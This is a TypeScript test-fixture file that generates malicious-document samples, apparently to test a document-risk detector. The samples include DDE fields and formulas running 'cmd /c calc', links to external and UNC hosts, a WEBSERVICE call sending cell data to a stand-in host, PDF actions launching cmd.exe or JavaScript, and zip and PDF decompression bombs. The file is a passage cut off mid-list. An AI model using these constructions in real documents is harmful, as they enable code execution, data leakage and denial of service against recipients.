import { deflateSync } from 'node:zlib'
import type { DocumentRisk } from '#kernel/document-risk.ts'
import { docx, pdf, zip, zipOf } from './hostile-files.ts'

export type RiskyDocument = { what: string; name: string; bytes: Buffer; risk: DocumentRisk }

const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

/** The relations of a part: their types by the end of the name, where they lead, and whether that is outside. */
function rels(...all: [type: string, target: string, mode?: 'External'][]): string {
  const each = all.map(
    ([type, target, mode], at) =>
      `<Relationship Id="r${at}" Type="${relations}/${type}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`,
  )
  return `<?xml version="1.0" encoding="UTF-8"?><Relationships>${each.join('')}</Relationships>`
}

/** A Word document whose text is this, in runs and fields. */
function word(body: string, parts: Record<string, string> = {}): Buffer {
  return docx({
    'word/document.xml': `<w:document xmlns:w="w"><w:body>${body}</w:body></w:document>`,
    ...parts,
  })
}

/** A field whose code stands in these pieces. */
function field(...pieces: string[]): string {
  const code = pieces.map((piece) =>
    piece.startsWith('<') ? piece : `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`,
  )
  const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
  return `${mark('begin')}${code.join('')}${mark('separate')}<w:r><w:t>1</w:t></w:r>${mark('end')}`
}

function sheet(parts: Record<string, string>): Buffer {
  return zip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>', ...parts })
}

function formula(text: string): Buffer {
  return sheet({ 'xl/worksheets/sheet1.xml': `<worksheet><c><f>${text}</f></c></worksheet>` })
}

/** A document that holds another. */
function holdingWorkbook(name: string, workbook: Buffer, main = 'word/document.xml'): Buffer {
  return zipOf([
    { name: '[Content_Types].xml', content: Buffer.from('<Types/>') },
    { name: main, content: Buffer.from('<a/>') },
    {
      name: `${main.slice(0, main.indexOf('/'))}/_rels/a.xml.rels`,
      content: Buffer.from(rels(['package', `/${name}`])),
    },
    { name, content: workbook },
  ])
}

/** A workbook that asks another program. */
const asking = () => formula('cmd|&apos;/c calc&apos;!A0')

function slides(parts: Record<string, string>): Buffer {
  return zip({ '[Content_Types].xml': '<Types/>', 'ppt/presentation.xml': '<p:presentation/>', ...parts })
}

function openDocument(type: string, content: string, parts: Record<string, string> = {}): Buffer {
  return zip({
    mimetype: `application/vnd.oasis.opendocument.${type}`,
    'content.xml': `<office:document-content>${content}</office:document-content>`,
    ...parts,
  })
}

const odt = (content: string, parts?: Record<string, string>) => openDocument('text', content, parts)

const outside = [
  'file://servidor/parte',
  'http://evil.example/a',
  '\\\\servidor\\parte',
  'https://evil.example/a.png',
]

/** Office documents that load, ask or run something by themselves. */
const activeOffice: [string, string, Buffer][] = [
  [
    'a field that runs a program (DDEAUTO)',
    'dde.docx',
    word(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" ')),
  ],
  ['a field that asks a program (DDE)', 'dde.docx', word(field('dde excel "a.xlsx" '))],
  ['a field whose code stands in pieces', 'dde.docx', word(field(' DD', 'EAU', 'TO cmd '))],
  ['a field whose name another field makes', 'dde.docx', word(field(field(' QUOTE 68 68 69 '), ' cmd '))],
  ['a field in a field', 'dde.docx', word(field(' IF 1 = 1 ', field(' DDEAUTO cmd '), ' "" '))],
  ['a field with another prefix', 'dde.docx', word('<x:fldSimple xmlns:x="w" x:instr="DDEAUTO cmd"/>')],
  [
    'a field in a header',
    'dde.docx',
    word('', { 'word/header1.xml': `<w:hdr>${field('INCLUDEPICTURE "http://a.example/a.png"')}</w:hdr>` }),
  ],
  [
    'a field in UTF-16',
    'dde.docx',
    zipOf([
      { name: '[Content_Types].xml', content: Buffer.from('<Types/>') },
      {
        name: 'word/document.xml',
        content: Buffer.from(`\uFEFF<w:document>${field('DDEAUTO cmd')}</w:document>`, 'utf16le'),
      },
    ]),
  ],
  ...[
    'INCLUDETEXT "http://a.example/a.docx"',
    'INCLUDEPICTURE "file://a/b.png" \\d',
    'LINK Excel.Sheet "a" b',
    'DATABASE \\c "a"',
    'RD "\\\\\\\\a\\\\b"',
    'IMPORT "a"',
    'AUTOTEXT a',
    'MACROBUTTON FileSave a',
    'HYPERLINK "file://servidor/parte"',
    'HYPERLINK "javascript:alert(1)"',
    'HYPERLINK \\o "Ver" "\\\\\\\\servidor\\\\parte\\\\a.exe"',
    'HYPERLINK \\t "_blank" "file://servidor/parte/"',
    'HYPERLINK \\n file://servidor/parte/',
    'HYPERLINK \\o "Ver\\" "file://servidor/parte/"',
    'HYPERLINK \\o "Ver\u201D \u201Cfile://servidor/parte/"',
    'HYPERLINK \\o "Ver" \\x "a" "file://servidor/parte/"',
  ].map((code): [string, string, Buffer] => [
    `the field ${code}`,
    'campo.docx',
    word(field(code.replaceAll('"', '&quot;'))),
  ]),
  [
    'a link whose address another field makes',
    'campo.docx',
    word(field(' HYPERLINK "', field(' DOCPROPERTY a '), '" ')),
  ],
  [
    'a link whose address a simple field makes',
    'campo.docx',
    word(field(' HYPERLINK ', '<w:fldSimple w:instr="DOCPROPERTY a"/>')),
  ],
  ...['file://servidor/parte/', '\\\\servidor\\parte\\'].map((base): [string, string, Buffer] => [
    `links that begin at ${base}`,
    'a.docx',
    word('', { 'docProps/app.xml': `<Properties><HyperlinkBase>${base}</HyperlinkBase></Properties>` }),
  ]),
  [
    'a link of a drawing that was found wrong',
    'a.pptx',
    slides({ 'ppt/slides/slide1.xml': '<p:sld><a:hlinkClick r:id="" invalidUrl="file://a/b"/></p:sld>' }),
  ],
  [
    'a part in another format',
    'altchunk.docx',
    word('<w:altChunk r:id="r0"/>', {
      'word/_rels/document.xml.rels': rels(['aFChunk', 'a.rtf']),
      'word/a.rtf': '{\\rtf1}',
    }),
  ],
  [
    'only the relation of such a part',
    'altchunk.docx',
    word('', { 'word/_rels/document.xml.rels': rels(['aFChunk', 'a.rtf']), 'word/a.rtf': '{\\rtf1}' }),
  ],
  [
    'such a part from elsewhere',
    'altchunk.docx',
    word('', { 'word/_rels/document.xml.rels': rels(['aFChunk', 'http://a.example/a.html', 'External']) }),
  ],
  ...[
    'image',
    'attachedTemplate',
    'oleObject',
    'frame',
    'subDocument',
    'video',
    'audio',
    'externalLinkPath',
    'mailMergeSource',
    'transform',
    'slideUpdateUrl',
  ].flatMap((type) =>
    outside.map((target): [string, string, Buffer] => [
      `a ${type} at ${target}`,
      'a.docx',
      word('', { 'word/_rels/document.xml.rels': rels([type, target, 'External']) }),
    ]),
  ),
  [
    'a relation within that leads out',
    'a.docx',
    word('', { 'word/_rels/document.xml.rels': rels(['image', 'http://a.example/a.png']) }),
  ],
  ...[
    'file://servidor/parte',
    'javascript:alert(1)',
    'ms-msdt:/id',
    'search-ms:query=a',
    '\\\\servidor\\parte',
    '//servidor/parte',
    'vbscript:a',
    'java\tscript:a',
  ].map((target): [string, string, Buffer] => [
    `a link to ${target}`,
    'a.docx',
    word('', { 'word/_rels/document.xml.rels': rels(['hyperlink', target, 'External']) }),
  ]),
  [
    'a picture of an older drawing at an address',
    'a.docx',
    word('<w:pict><v:shape><v:imagedata src="http://a.example/a.png"/></v:shape></w:pict>'),
  ],
  [
    'a letter to many',
    'a.docx',
    word('', {
      'word/settings.xml': '<w:settings><w:mailMerge><w:connectString w:val="a"/></w:mailMerge></w:settings>',
    }),
  ],
  [
    'an add-in of the web',
    'a.docx',
    word('', { '_rels/.rels': rels(['webextensiontaskpanes', 'word/webextensions/taskpanes.xml']) }),
  ],
  [
    'a link to another program (DDE)',
    'a.xlsx',
    sheet({
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    }),
  ],
  [
    'a connection that refreshes',
    'a.xlsx',
    sheet({
      'xl/connections.xml':
        '<connections><connection id="1" refreshOnLoad="1"><webPr url="http://a.example"/></connection></connections>',
    }),
  ],
  [
    'a connection that refreshes every minute',
    'a.xlsx',
    sheet({ 'xl/connections.xml': '<connections><connection id="1" interval="1"/></connections>' }),
  ],
  [
    'a table that asks when it is opened',
    'a.xlsx',
    sheet({ 'xl/queryTables/q1.xml': '<queryTable refreshOnLoad="true"/>' }),
  ],
  [
    'a pivot table of another source',
    'a.xlsx',
    sheet({
      'xl/pivotCache/p1.xml':
        '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external"/></pivotCacheDefinition>',
    }),
  ],
  [
    'values of another program',
    'a.xlsx',
    sheet({ 'xl/volatileDependencies.xml': '<volTypes><volType type="realTimeData"/></volTypes>' }),
  ],
  ...[
    'cmd|&apos;/c calc&apos;!A0',
    'SUM(1)+cmd|x!A1',
    '_xlfn.WEBSERVICE("http://a.example/"&amp;A1)',
    '_xlfn.IMAGE("https://a.example/a.png")',
    'RTD("a",,"b")',
    'HYPERLINK("file://a/b","a")',
    "'\\\\a\\b\\[c.xlsx]d'!A1",
    'CALL("a","b")',
    "'a\"b'!A1&amp;_xlfn.WEBSERVICE(A2)&amp;'a\"b'!A1",
    "'a\"b'!A1+cmd|'/c calc'!A0+'a\"b'!A1",
    "T['[]+cmd|'/c calc'!A0+T['[]",
    "{1}+cmd|'/c calc'!A0",
    '{cmd|a!A0}',
    "'http://a.example/[b.xlsx]c'!A1",
    '[b.xlsx]c!A1',
    'HYPERLINK("fi"&amp;"le://a/b","a")',
    'HYPERLINK(A1,"a")',
    'INDIRECT("\'\\\\a\\[b.xlsx]c\'!A1")',
    'CUBEVALUE("a","b")',
    '_xll.BDP("a")',
    'A1 \\ "',
  ].map((text): [string, string, Buffer] => [`the formula ${text}`, 'a.xlsx', formula(text)]),
  [
    'a name with such a formula',
    'a.xlsx',
    sheet({ 'xl/workbook.xml': '<workbook><definedName name="a">cmd|a!A0</definedName></workbook>' }),
  ],
  [
    'a scale of colours that asks the web',
    'a.xlsx',
    sheet({
      'xl/worksheets/sheet1.xml':
        '<worksheet><cfvo type="formula" val="_xlfn.WEBSERVICE(&quot;http://a.example&quot;)"/></worksheet>',
    }),
  ],
  [
    'a field of a pivot table that asks a program',
    'a.xlsx',
    sheet({
      'xl/pivotCache/p1.xml': '<pivotCacheDefinition><cacheField formula="cmd|a!A0"/></pivotCacheDefinition>',
    }),
  ],
  ['a workbook elsewhere that asks a program', 'a.docx', holdingWorkbook('word/charts/b.xlsx', asking())],
  [
    'a workbook among the pictures that asks a program',
    'a.docx',
    holdingWorkbook('word/media/b.xlsx', asking()),
  ],
  ...['ppaction://program?x', 'ppaction://macro?name=a', 'ppaction://ole?verb=0', 'ppaction://hlinkfile'].map(
    (action): [string, string, Buffer] => [
      `the action ${action}`,
      'a.pptx',
      slides({ 'ppt/slides/slide1.xml': `<p:sld><a:hlinkClick r:id="" action="${action}"/></p:sld>` }),
    ],
  ),
  [
    'a link where a pointer passes',
    'a.pptx',
    slides({ 'ppt/slides/slide1.xml': '<p:sld><a:hlinkMouseOver r:id="r0"/></p:sld>' }),
  ],
  [
    'an object that is started by an animation',
    'a.pptx',
    slides({ 'ppt/slides/slide1.xml': '<p:sld><p:cmd type="verb" cmd="0"/></p:sld>' }),
  ],
  [
    'a field beside which another attribute of its name stands',
    'a.docx',
    word('<w:fldSimple w:instr="DDEAUTO cmd" z:instr="PAGE"/>'),
  ],
  [
    'a relation with another mode beside its own',
    'a.docx',
    word('', {
      'word/_rels/document.xml.rels': `<Relationships><Relationship Id="r0" Type="${relations}/attachedTemplate" Target="http://a.example/a.dotm" TargetMode="External" z:Type="x/hyperlink" z:TargetMode="Internal" z:Target="a"/></Relationships>`,
    }),
  ],
  [
    'a field in whose code an element of another kind stands',
    'a.docx',
    word(field('<w:r><w:instrText> <z:f/>DDEAUTO cmd</w:instrText></w:r>')),
  ],
  [
    'a field whose code seems to be over before it begins',
    'a.docx',
    word(
      '<w:r><w:instrText>PAGE </w:instrText></w:r><w:fldChar w:fldCharType="begin"/><z:fldChar z:fldCharType="separate"/><w:instrText>DDEAUTO cmd</w:instrText><w:fldChar w:fldCharType="end"/>',
    ),
  ],
  [
    'relations that look like a drawing',
    'a.docx',
    word('', {
      'word/_rels/document.xml.rels': `<svg>${rels(['image', 'http://a.example/a.png', 'External']).replace(/^<\?.*?\?>/, '')}</svg>`,
    }),
  ],
  ['a film whose page is run', 'a.docx', word('<wp15:webVideoPr embeddedHtml="&lt;iframe/&gt;"/>')],
  ['a form with its values from elsewhere', 'a.odt', odt('<xforms:instance src="http://a.example/a.xml"/>')],
  ['a formula in which another stands', 'a.xlsx', formula('WEBSERVICE("http://a.example")<z:f>1</z:f>')],
  [
    'a connection that refreshes, with space',
    'a.xlsx',
    sheet({ 'xl/connections.xml': '<connections><connection id="1" refreshOnLoad=" 1 "/></connections>' }),
  ],
  [
    'a picture of an older drawing at the address of its original',
    'a.docx',
    word('<w:pict><v:shape><v:imagedata o:href="http://a.example/a.png"/></v:shape></w:pict>'),
  ],
  [
    'a listener of an event',
    'a.odt',
    odt(
      '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.b?language=Python&amp;location=user"/></office:event-listeners></office:scripts>',
    ),
  ],
  [
    'a section that is loaded',
    'a.odt',
    odt(
      '<text:section><text:section-source xlink:href="http://a.example/a.odt" xlink:actuate="onLoad"/></text:section>',
    ),
  ],
  ['a section of a file beside it', 'a.odt', odt('<text:section-source xlink:href="../otro.odt"/>')],
  [
    'a link to another program (DDE)',
    'a.odt',
    odt('<office:dde-source office:dde-application="soffice" office:automatic-update="true"/>'),
  ],
  [
    'another link to another program',
    'a.odt',
    odt('<text:dde-connection-decl office:dde-application="cmd"/>'),
  ],
  ...outside.map((href): [string, string, Buffer] => [
    `a picture at ${href}`,
    'a.odt',
    odt(`<draw:frame><draw:image xlink:href="${href}" xlink:actuate="onLoad"/></draw:frame>`),
  ]),
  ['a picture that is not in it', 'a.odt', odt('<draw:image xlink:href="Pictures/a.png"/>')],
  [
    'a picture of the styles',
    'a.odt',
    odt('', {
      'styles.xml':
        '<office:document-styles><style:background-image xlink:href="http://a.example/a.png"/></office:document-styles>',
    }),
  ],
  [
    'a link that is followed when it is opened',
    'a.odt',
    odt('<text:a xlink:href="https://a.example" xlink:actuate="onLoad">a</text:a>'),
  ],
  [
    'a link to a script',
    'a.odt',
    odt('<text:a xlink:href="vnd.sun.star.script:a?language=Basic">a</text:a>'),
  ],
  [
    'a link to a command',
    'a.odt',
    odt('<text:a xlink:href=".uno:RunMacro">a</text:a><draw:floating-frame/>'),
  ],
  ['a form that is sent', 'a.odt', odt('<form:form xlink:href="http://a.example"/>')],
  [
    'a page that is loaded again',
    'a.odt',
    odt('', {
      'meta.xml':
        '<office:document-meta><meta:auto-reload xlink:href="http://a.example" meta:delay="PT1S"/></office:document-meta>',
    }),
  ],
  [
    'a range of another sheet',
    'a.ods',
    openDocument(
      'spreadsheet',
      '<table:cell-range-source xlink:href="http://a.example/a.ods" table:refresh-delay="PT1S"/>',
    ),
  ],
  [
    'a formula that asks a program',
    'a.ods',
    openDocument(
      'spreadsheet',
      '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)"/>',
    ),
  ],
  [
    'a formula that asks the web',
    'a.ods',
    openDocument(
      'spreadsheet',
      '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://a.example&quot;)"/>',
    ),
  ],
  [
    'a name that asks the web',
    'a.ods',
    openDocument(
      'spreadsheet',
      '<table:named-expression table:name="a" table:expression="of:=WEBSERVICE(&quot;http://a.example&quot;)"/>',
    ),
  ],
  [
    'a picture beside whose address another attribute of its name stands',
    'a.odt',
    odt('<draw:image xlink:href="http://a.example/a.png" z:href=""/>'),
  ],
  [
    'a formula of another file',
    'a.ods',
    openDocument('spreadsheet', '<table:table-cell table:formula="of:=\'file://a/b.ods\'#$A.A1"/>'),
  ],
  ...[
    "of:=$'a&quot;b'.A1&amp;WEBSERVICE([.A2])&amp;$'a&quot;b'.A1",
    "of:='dav://servidor/a.ods'#$a.A1",
    "of:=['vnd.sun.star.webdav://servidor/a.ods'#$a.A1]",
    "of:=SUM(['//servidor/parte/a.ods'#$a.A1:.A2])",
    "of:='otro.ods'#$a.A1",
    "msoxl:=cmd|'/c calc'!A0",
    'of:=COM.MICROSOFT.WEBSERVICE([.A1])',
  ].map((text): [string, string, Buffer] => [
    `the formula ${text}`,
    'a.ods',
    openDocument('spreadsheet', `<table:table-cell table:formula="${text}"/>`),
  ]),
  [
    'a condition that asks the web',
    'a.ods',
    openDocument('spreadsheet', '<calcext:condition calcext:value="formula-is(WEBSERVICE([.A1]))"/>'),
  ],
  ...[
    '<form:image form:image-data="file://servidor/parte/a.png"/>',
    '<form:button form:image-data="http://a.example/a.png"/>',
    '<form:form form:datasource="http://a.example/a.odb"/>',
    '<form:form form:datasource="Clientes"/>',
    '<text:p xml:base="http://a.example/"/>',
    '<chart:series chart:values-cell-range-address="\'file://servidor/a.ods\'#$a.A1"/>',
    '<draw:frame draw:other="//servidor/parte/a.png"/>',
    '<text:bibliography-mark text:url="file://servidor/parte"/>',
  ].map((content): [string, string, Buffer] => [`the place in ${content}`, 'a.odt', odt(content)]),
  [
    'a click that runs a program',
    'a.odp',
    openDocument(
      'presentation',
      '<presentation:event-listener presentation:action="execute" xlink:href="a.exe"/>',
    ),
  ],
]

const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>'

/** Annotations on the page of a PDF. */
function annotated(annotation: string): Buffer {
  return pdf('', `5 0 obj\n<< /Type /Page /Annots [ ${annotation} ] >>\nendobj\n`)
}

const link = (action: string) => annotated(`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`)

/** Objects in a stream of their own, as every program packs them today. */
function packedObjects(object: string, filter = '/FlateDecode', count = 1): string {
  const held = deflateSync(Buffer.from(`7 0 ${object}`)).toString('latin1')
  return `5 0 obj\n<< /Type /ObjStm /N ${count} /First 4 /Filter ${filter} /Length ${held.length} >>\nstream\n${held}\nendstream\nendobj\n`
}

const actions = [
  '<< /S /URI /URI (http://a.example) >>',
  '<< /S /SubmitForm /F (http://a.example) >>',
  '<< /S /GoToR /F (\\\\\\\\servidor\\\\parte) /D [0 /Fit] >>',
  '<< /S /GoToE /T << /R /C /N (a) >> >>',
  '<< /S /ImportData /F (a.fdf) >>',
  '<< /S /Launch /F (cmd.exe) >>',
  '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
  '<< /S /J#61vaScript /#4aS (x) >>',
  '<< /S /Rendition /OP 0 >>',
  '<< /S /Named /N /Print >>',
  '<< /S /Hide /T (a) >>',
  '<< /S /ResetForm >>',
  '<< /S /SetOCGState /State [] >>',
  '<< /S /Movie >>',
  '<< /S /Sound >>',
  '<< /S /Algo >>',
  '<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://a.example) >> >>',
]

/** PDFs that act when they are opened, or that lead elsewhere than a link does. */
const activePdfs: [string, string, Buffer][] = [
  ...actions.map((action): [string, string, Buffer] => [
    `opens with ${action}`,
    'a.pdf',
    pdf(`/OpenAction ${action}`),
  ]),
  ...actions.map((action): [string, string, Buffer] => [
    `opens with an object ${action}`,
    'a.pdf',
    pdf('/OpenAction 5 0 R', `5 0 obj\n${action}\nendobj\n`),
  ]),
  ...actions
    .slice(1)
    .map((action): [string, string, Buffer] => [`a link to ${action}`, 'a.pdf', link(action)]),
  ...[
    'file://a/b',
    'javascript:alert(1)',
    '\\357\\273\\277file://a/b',
    '\\377\\376f\\000i\\000l\\000e\\000:\\000',
    '\\\\\\\\a\\\\b',
    '\\376\\377\\000f\\000i\\000l\\000e\\000:',
  ].map((address): [string, string, Buffer] => [
    `a link to ${address}`,
    'a.pdf',
    link(`<< /S /URI /URI (${address}) >>`),
  ]),
  [
    'opens with a packed object',
    'a.pdf',
    pdf('/OpenAction 7 0 R', packedObjects('<< /S /URI /URI (http://a.example) >>')),
  ],
  [
    'acts with its pages',
    'a.pdf',
    pdf('', '5 0 obj << /Type /Page /AA << /O << /S /URI /URI (http://a.example) >> >> >> endobj\n'),
  ],
  ['acts with its pages, in an object', 'a.pdf', pdf('/AA 5 0 R', '5 0 obj << /WC 6 0 R >> endobj\n')],
  [
    'acts with an object that nothing finds',
    'a.pdf',
    pdf('/OpenAction 5 0 R', '5 0 %x\nobj << /S /Algo >> endobj\n'),
  ],
  ...[
    ['a comment', '%x\n'],
    ['a long comment', `%${'x'.repeat(500)}\n`],
    ['much space', ' '.repeat(500)],
    ['a sign', '+'],
    ['zeros', '00000'],
  ].map(([what, between]): [string, string, Buffer] => [
    `acts with a name in an object whose number ${what} keeps from its start`,
    'a.pdf',
    pdf('/OpenAction << /S 9 0 R /F (a) >>', `9 0 obj /GoTo endobj\n9 ${between}0 obj /Launch endobj\n`),
  ]),
  [
    'acts with an address in such an object',
    'a.pdf',
    pdf(
      '',
      '5 0 obj << /Type /Page /Annots [ << /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI 9 0 R >> >> ] >> endobj\n9 %x\n0 obj (file://a/b) endobj\n',
    ),
  ],
  ['acts with an address that is nowhere', 'a.pdf', link('<< /S /URI /URI 9 0 R >>')],
  [
    'acts with packed objects of which more are named than its head is long',
    'a.pdf',
    pdf(
      '/OpenAction 8 0 R',
      `8 0 obj [3 0 R /Fit] endobj\n${packedObjects('8 14 [ 3 0 R ] << /S /URI /URI (http://a.example) >>', '/FlateDecode', 2)}`,
    ),
  ],
  [
    'acts in a former version of itself',
    'a.pdf',
    pdf(
      '/OpenAction 5 0 R',
      '5 0 obj << /S /URI /URI (http://a.example) >> endobj\n5 0 obj << /S /GoTo /D [3 0 R /Fit] >> endobj\n',
    ),
  ],
  [
    'says twice what it does',
    'a.pdf',
    pdf('/OpenAction [3 0 R /Fit] /OpenAction << /S /SubmitForm /F (a) >>'),
  ],
  [
    'acts behind what looks like a stream',
    'a.pdf',
    pdf('/OpenAction 6 0 R', '%stream\n6 0 obj << /S /ImportData /F (a) >> endobj\n%endstream\n'),
  ],
  [
    'acts with an outline',
    'a.pdf',
    pdf('', '5 0 obj << /Title (a) /A << /S /URI /URI (http://a.example) >> >> endobj\n'),
  ],
  ['acts, and holds data', 'a.pdf', holding('/F (a.xml)', '8 0 obj [ << /S /Launch /F (a) >> ] endobj\n')],
  ['has a form of another kind', 'a.pdf', pdf('/AcroForm << /XFA (a) >>')],
  [
    'shows a page of another file',
    'a.pdf',
    pdf(
      '',
      '5 0 obj << /Type /XObject /Subtype /Form /Ref << /F (a.pdf) >> /Length 0 >>\nstream\n\nendstream endobj\n',
    ),
  ],
  [
    'has a stream in another file',
    'a.pdf',
    pdf('', '5 0 obj << /F (\\\\\\\\a\\\\b) /Length 0 >>\nstream\n\nendstream endobj\n'),
  ],
  ...['Screen', 'RichMedia', 'Movie', 'Sound', '3D'].map((kind): [string, string, Buffer] => [
    `shows a ${kind}`,
    'a.pdf',
    annotated(`<< /Subtype /${kind} /Rect [0 0 9 9] >>`),
  ]),
]

/** A PDF that holds a file of these names. */
function holding(names: string, objects = ''): Buffer {
  return pdf(
    '/Names << /EmbeddedFiles << /Names [ (a) 5 0 R ] >> >>',
    `5 0 obj << ${names} /EF << /F 6 0 R >> >> endobj\n6 0 obj << /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream endobj\n${objects}`,
  )
}

const damagedPdfs: [string, string, Buffer][] = [
  [
    'a tree of pages that names itself',
    'loop.pdf',
    Buffer.from(pdf('').toString('latin1').replace('/Kids [3 0 R]', '/Kids [3 0 R 2 0 R]'), 'latin1'),
  ],
  [
    'a tree of pages that names its parent',
    'loop.pdf',
    Buffer.from(
      pdf('', '5 0 obj << /Type /Pages /Kids [2 0 R] >> endobj\n')
        .toString('latin1')
        .replace('/Kids [3 0 R]', '/Kids [3 0 R 5 0 R]'),
      'latin1',
    ),
  ],
  [
    'a tree of pages of a million leaves',
    'hojas.pdf',
    pdf(
      '',
      Array.from(
        { length: 7 },
        (_, at) => `${10 + at} 0 obj << /Kids [${`${11 + at} 0 R `.repeat(10)}] >> endobj\n`,
      ).join(''),
    ),
  ],
  [
    'an outline that names itself',
    'loop.pdf',
    pdf('', '5 0 obj << /Title (a) /Next 6 0 R >> endobj\n6 0 obj << /Title (b) /Next 5 0 R >> endobj\n'),
  ],
  [
    'a dictionary that readers understand differently',
    'a.pdf',
    pdf('', '5 0 obj << /X >> /OpenAction << /S /GoTo >> >> endobj\n6 0 obj << [ /A ] /B >> endobj\n'),
  ],
  [
    'objects that are packed as nobody packs them',
    'a.pdf',
    pdf('/OpenAction 7 0 R', packedObjects('<< /S /GoTo >>', '[/ASCIIHexDecode /FlateDecode]')),
  ],
  ...[
    '/Otro',
    '[/FlateDecode /Otro]',
    '[/DCTDecode /FlateDecode]',
    '[5]',
    '[6 0 R]',
    `[${'/FlateDecode '.repeat(5)}]`,
  ].map((filters): [string, string, Buffer] => [
    `a stream packed by ${filters}`,
    'a.pdf',
    pdf('', packedBy(filters, Buffer.from('a'))),
  ]),
  ['objects within objects', 'a.pdf', pdf('', `5 0 obj ${'['.repeat(5000)} endobj\n`)],
]

function bombWithin(): Buffer {
  const space = Buffer.alloc(100 * 1024 * 1024, ' ')
  const workbook = zipOf([
    { name: '[Content_Types].xml', content: Buffer.from('<Types/>') },
    { name: 'xl/workbook.xml', content: Buffer.concat([Buffer.from('<a>'), space, Buffer.from('</a>')]) },
  ])
  return zipOf([
    { name: '[Content_Types].xml', content: Buffer.from('<Types/>') },
    { name: 'word/document.xml', content: Buffer.concat([Buffer.from('<a>'), space, Buffer.from('</a>')]) },
    { name: 'word/embeddings/a.xlsx', content: workbook },
  ])
}

function bomb(): Buffer {
  return zipOf([
    { name: '[Content_Types].xml', content: Buffer.from('<Types/>') },
    { name: 'word/document.xml', content: Buffer.from('<w:document/>') },
    { name: 'word/a.xml', content: Buffer.from(`<a>${' '.repeat(200 * 1024 * 1024)}</a>`) },
  ])
}

/** A stream of a PDF with these filters. */
function packedBy(filters: string, held: Buffer): string {
  return `5 0 obj << /Filter ${filters} /Length ${held.length} >>\nstream\n${held.toString('latin1')}\nendstream\nendobj\n`
}

const inHex = (bytes: Buffer) => Buffer.from(`${bytes.toString('hex')}>`)

function inBase85(bytes: Buffer): Buffer {
  const padded = Buffer.concat([bytes, Buffer.alloc((4 - (bytes.length % 4)) % 4)])
  let text = ''
  for (let at = 0; at < padded.length; at += 4) {
    const letters: number[] = []
    for (let left = padded.readUInt32BE(at); letters.length < 5; left = Math.floor(left / 85))
      letters.unshift(0x21 + (left % 85))
    text += String.fromCharCode(...letters)
  }
  return Buffer.from(`${text.slice(0, Math.ceil((bytes.length * 5) / 4))}~>`)
}

/** Codes of LZW (TIFF 6.0, section 13), each of which means a byte more than the one before; the last of them `times` more. */
function lzwOf(times: number): Buffer {
  const lastCode = 4094
  const codes = [256, 0, ...Array.from({ length: lastCode - 257 }, (_, at) => 258 + at)]
  const widthAt = (at: number) => Math.min(12, Math.floor(Math.log2(256 + Math.max(2, at + 1))) + 1)
  let bits = ''
  for (const [at, code] of codes.entries()) bits += code.toString(2).padStart(at < 2 ? 9 : widthAt(at), '0')
  bits += lastCode.toString(2).padStart(12, '0').repeat(times)
  return Buffer.from((bits.match(/.{1,8}/g) ?? []).map((byte) => Number.parseInt(byte.padEnd(8, '0'), 2)))
}

/** Streams that unpack to 300 MB, by each way of packing. */
function pdfBombs(): [string, string, Buffer][] {
  const zeros = deflateSync(Buffer.alloc(300 * 1024 * 1024))
  const runs = deflateSync(Buffer.alloc(5 * 1024 * 1024, Buffer.from([129, 0])))
  const bombs: [string, Buffer][] = [
    ['[/FlateDecode /FlateDecode]', deflateSync(zeros)],
    ['[/ASCIIHexDecode /FlateDecode]', inHex(zeros)],
    ['[/AHx /Fl]', inHex(zeros)],
    ['[/ASCII85Decode /FlateDecode /FlateDecode]', inBase85(deflateSync(zeros))],
    ['[/FlateDecode /RunLengthDecode]', runs],
    ['/LZWDecode', lzwOf(80_000)],
    ['[/FlateDecode /DCTDecode]', zeros],
  ]
  return bombs.map(([filters, held]) => [
    `a PDF that unpacks to 300 MB by ${filters}`,
    'bomba.pdf',
    pdf('', packedBy(filters, held)),
  ])
}

/** Documents that act when they are opened, hold something else, or cannot be looked into, each with its risk. */
export function riskyDocuments(): RiskyDocument[] {
  const as = (risk: DocumentRisk, all: [string, string, Buffer][]) =>
    all.map(([what, name, bytes]): RiskyDocument => ({ what, name, bytes, risk }))
  return [
    ...as('active', [...activeOffice, ...activePdfs]),
    ...as('damaged', [
      ...damagedPdfs,
      [
        'its own entities',
        'a.docx',
        word('', { 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "c">]><w:document>&b;</w:document>' }),
      ],
      [
        'parts of two kinds of document',
        'a.docx',
        zip({
          mimetype: 'application/vnd.oasis.opendocument.text',
          '[Content_Types].xml': '<Types/>',
          'word/document.xml': '<w:document/>',
          'content.xml':
            '<office:document-content><text:section-source xlink:href="http://a.example"/></office:document-content>',
        }),
      ],
      [
        'parts of two kinds of document, in other letters',
        'a.odt',
        odt('', {
          '[content_types].xml': '<Types/>',
          'word/document.xml': `<w:document>${field('DDEAUTO cmd')}</w:document>`,
        }),
      ],
      [
        'a part that is called as an address',
        'a.odt',
        odt('<draw:image xlink:href="file://servidor/parte/a.png"/>', { 'file://servidor/parte/a.png': 'x' }),
      ],
      ['no XML', 'a.docx', word('', { 'word/document.xml': '<w:document>' })],
      [
        'another encoding',
        'a.docx',
        word('', { 'word/document.xml': '<?xml version="1.0" encoding="utf-7"?><w:document/>' }),
      ],
    ]),
    ...as('macros', [
      [
        'macros of another name',
        'a.docx',
        word('', {
          '[Content_Types].xml':
            '<Types><Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
          'word/a.bin': 'x',
